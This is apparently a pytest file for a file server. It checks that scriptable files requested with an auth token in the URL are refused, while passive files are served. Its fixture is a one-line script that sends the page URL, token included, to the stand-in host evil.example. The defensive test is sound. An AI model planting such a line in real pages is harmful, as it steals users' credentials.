"""A token in the URL of a file that can run scripts would be readable by that script (which could
then act as the user): such requests are refused with the way to open the file instead."""

from __future__ import annotations

import pytest

from tests.support.server import RunningServer
from vfs_ext.owner import Owner

#: A page that would hand its own URL (and any token in it) to whoever it likes.
LEAKY_PAGE = b"<script>fetch('https://evil.example/?' + encodeURIComponent(location.href))</script>"


@pytest.mark.parametrize("ext", ["html", "svg", "xml", "js", "xhtml"])
def test_active_file_with_token_in_url_is_refused(
    server: RunningServer, owner: Owner, ext: str
) -> None:
    name = owner.write(LEAKY_PAGE, ext=ext).name
    for method in ("GET", "HEAD"):
        status, _, body = server.request(method, f"@file/{name}?token={server.token}", auth=False)
        assert status == 403, (method, status, body)
    _, _, body = server.request("GET", f"@file/{name}?token={server.token}", auth=False)
    assert b"Authorization: token" in body and LEAKY_PAGE not in body
    # The same file with the token in a header, as scripts send it, is served.
    status, _, body = server.request("GET", f"@file/{name}")
    assert (status, body) == (200, LEAKY_PAGE)


def test_passive_file_with_token_in_url_is_served(server: RunningServer, owner: Owner) -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
    name = owner.write(png, ext="png").name
    status, _, body = server.request("GET", f"@file/{name}?token={server.token}", auth=False)
    assert (status, body) == (200, png)


def test_wrong_token_in_url_gets_no_file(server: RunningServer, owner: Owner) -> None:
    name = owner.write(LEAKY_PAGE, ext="html").name
    status, _, body = server.request("GET", f"@file/{name}?token=guess", auth=False)
    assert status in (302, 403) and LEAKY_PAGE not in body  # 302: to the login page
